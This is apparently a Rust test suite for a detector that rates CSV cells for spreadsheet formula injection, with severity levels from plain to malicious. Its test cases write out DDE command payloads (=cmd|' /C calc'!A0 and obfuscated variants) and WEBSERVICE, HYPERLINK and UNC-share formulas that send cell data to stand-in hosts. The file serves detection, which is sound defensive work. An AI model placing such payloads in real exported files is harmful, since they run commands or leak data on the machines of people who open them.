//! Which cells are held for formulas, and which are not?

use super::*;
use crate::Limits;

/// What is paid for the cells of a table beyond its bytes.
fn paid(text: &str) -> u64 {
    let mut table = Table::new(text);
    let mut notes = Notes::default();
    let mut budget = Budget::new(Limits::default());
    let mut paid = 0;
    let end = cells::walk(text.as_bytes(), separator(text), &mut budget, |cell| {
        let bytes = table.look(cell, &mut notes);
        paid += bytes;
        bytes
    });
    assert_eq!(end, Ok(()));
    paid
}

#[test]
fn a_table_of_missing_values_costs_nothing() {
    for cell in ["-", "\"-\"", "-/-", "+", "\"+/-\"", "=", "@", "--"] {
        for delimiter in [",", ";", "\t", "|"] {
            let row = [cell; 1000].join(delimiter);
            assert_eq!(
                paid(&format!("{row}\n{row}\r\n{row}")),
                0,
                "{cell}{delimiter}"
            );
        }
    }
}

#[test]
fn a_line_is_searched_once_for_all_its_cells() {
    for cell in [
        "=", "-\t", "=\"", "-x|", "=a(\"", "-\"|a", "=A1", "\"=\"x", "\"=a\"", "@a|b!", "＝x", " ",
        "=  ", "\"\"=", "+-+-", "-a(", "-'", "\"\"\"=",
    ] {
        for delimiter in [",", ";", "\t", "|", ""] {
            let row = vec![cell; 20_000].join(delimiter);
            let text = format!("a,b\n1,{row}");
            let most = 400 * 20_000 + 64 * text.len() as u64;
            assert!(paid(&text) < most, "{cell}{delimiter} {}", paid(&text));
        }
    }
}

fn worst(text: &str) -> Option<Severity> {
    let mut notes = Notes::default();
    check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
    notes.worst()
}

#[test]
fn plain_cells_are_left_alone() {
    for cell in [
        "-",
        "--",
        "-1",
        "-1.5e-3",
        "+49 170 1234567",
        "+1 (555) 123-4567",
        "@ana",
        "@bo_b",
        "-inf",
        "+inf",
        "-nan",
        "=",
        "==",
        "=> next",
        "-12 %",
        "- item",
        "-foo",
        "+ added (see below)",
        "@home (work)",
        "=)",
        "x = y + 1",
        "-A",
        "+B",
        "--- a/x.txt",
        "-$5.00",
        "\"-1,5\"",
        "'=SUM(A1)",
        "−5",
        "－",
        "-(n)",
        "+C/-",
        "@override",
        "a|b",
        "\"text, -x\"",
        "+0.5|-0.5",
        "-3-4",
        "+/-5",
        "=-=",
        "- cmd | findstr x!",
        "-powershell | more",
        "\"- cmd | findstr 'x' y!\"",
        "- image (left)",
        "\"- image (left), query(x)\"",
        "- image(s) per patient",
        "- query (open)",
        "+query (long)",
        "- call (missed)",
        "-image(3)",
        "@image(alt)",
        "-shell(weight)",
        "- item one (see A|B!)",
        "- x | y",
        "-foo|bar",
        "- it's 'http://a.invalid' for a!",
        "-\\\\a",
        "-\tx",
    ] {
        assert_eq!(worst(&format!("a,b\n1,{cell}\n")), None, "{cell}");
    }
}

#[test]
fn commands_are_malicious_however_they_are_quoted() {
    for cell in [
        "=cmd|' /C calc'!A0",
        "\"=cmd|' /C calc'!A0\"",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
        "\t=cmd|' /C calc'!A0",
        "\"\t=cmd|' /C calc'!A0\"",
        "\"\r=cmd|' /C calc'!A0\"",
        "\"\n=cmd|' /C calc'!A0\"",
        " =cmd|' /C calc'!A0",
        "\u{feff}=cmd|' /C calc'!A0",
        "\"\"=cmd|' /C calc'!A0",
        "=CMD|'/c calc'!A0",
        "=MSEXCEL|'\\..\\..\\calc.exe'!x",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=powershell|'-c x'!A1",
        "=foo|'bar'!baz",
        "\"x\",=cmd|'/C x'!A0",
        "\u{200b}=cmd|' /C calc'!A0",
        "=1+EXEC(\"calc\")",
        "=+-+cmd|'/C x'!A0",
        "+DDE(\"cmd\";\"/C calc\";\"x\")",
        "\"=\ncmd|'/C x'!A0\"",
        "\"=1+\r\n cmd|'/C \"\"x'!A0\"",
        "\"=1+\"\"a\"\"&cmd|'/C x'!A0\"",
        "=calc|a!b",
        "=1+calc|a!b",
        "=   C  m D   |   ' /  c  calc '  !  A",
        "+thespanishinquisition(cmd|'/c calc.exe'!A",
        "-A1,cmd|'/C x'!A0",
        "=\tcmd|'/C x'!A0",
        "-\tcmd|'/C x'!A0",
        "-,-,-1,=cmd|'/C x'!A0",
    ] {
        for delimiter in [",", ";", "\t", "|"] {
            assert_eq!(
                worst(&format!("a{delimiter}b\n1{delimiter}{cell}\n")),
                Some(Severity::Malicious),
                "{cell}"
            );
        }
    }
}

#[test]
fn reaching_out_is_suspicious_and_arithmetic_is_active() {
    for cell in [
        "=HYPERLINK(\"http://x\",\"y\")",
        "\"=WEBSERVICE(\"\"http://x\"\"&A1)\"",
        "=IMPORTXML(\"http://x\",\"//a\")",
        "+IMAGE(\"http://x\")",
        "＝cmd|'/C x'!A0",
        "='\\\\host\\share\\[a.xls]S'!A1",
        "+'\\\\host\\share\\[a.xls]S'!A1",
        "-\\\\host\\share\\[a.xls]S!A1",
        "=SUM('\\\\host\\share\\[a.xls]S'!A1)",
        "\"=INDIRECT(\"\"'\\\\host\\s\\[a.xls]S'!A1\"\")\"",
        "='[http://a.invalid/x.xlsx]S'!A1",
        "=\"a\"&'https://a.invalid/[x.xlsx]S'!A1",
        "\"=\nHYPERLINK(\"\"http://a.invalid?\"\"&A1,\"\"x\"\")\"",
        "\"=A1&\nWEBSERVICE(\"\"http://a.invalid?\"\"&A1)\"",
        "- IMAGE (\"http://x\")",
        "+calc|a!b",
        "+exec(\"a\")",
        "-2+3+calc|a!b",
        "@A1*calc|a!b",
    ] {
        assert_eq!(
            worst(&format!("1,{cell}\n")),
            Some(Severity::Suspicious),
            "{cell}"
        );
    }
    for cell in [
        "=SUM(A1:A3)",
        "=A1+B2",
        "=1+1",
        "@SUM(1)",
        "+A1+B1",
        "=-A1+2",
    ] {
        assert_eq!(
            worst(&format!("1,{cell}\n")),
            Some(Severity::Active),
            "{cell}"
        );
    }
}

#[test]
fn a_formula_is_judged_over_its_whole_length() {
    let sum = "1+".repeat(10_000);
    for (start, end) in [("=", ""), ("\"=", "\""), ("-", ""), ("\"@", "\"")] {
        let text = format!("a,b\n1,{start}{sum}cmd|'/C x'!A0{end}\n");
        assert_eq!(worst(&text), Some(Severity::Malicious), "{start}");
    }
    let call = format!("a\n=IF(1,{sum}1,HYPERLINK(\"http://a.invalid\"))\n");
    assert_eq!(worst(&call), Some(Severity::Suspicious));
}

#[test]
fn the_first_line_names_the_separator() {
    for separator in ["^", ":", " ", "x", "\u{a7}", "~"] {
        for word in ["sep=", "SEP=", "\u{feff}sep="] {
            let text = format!("{word}{separator}\n1{separator}=cmd|'/C x'!A0\n");
            assert_eq!(worst(&text), Some(Severity::Malicious), "{text}");
        }
        let text = format!("a\n1{separator}=cmd|'/C x'!A0\n");
        assert_eq!(worst(&text), None, "{text}");
    }
}
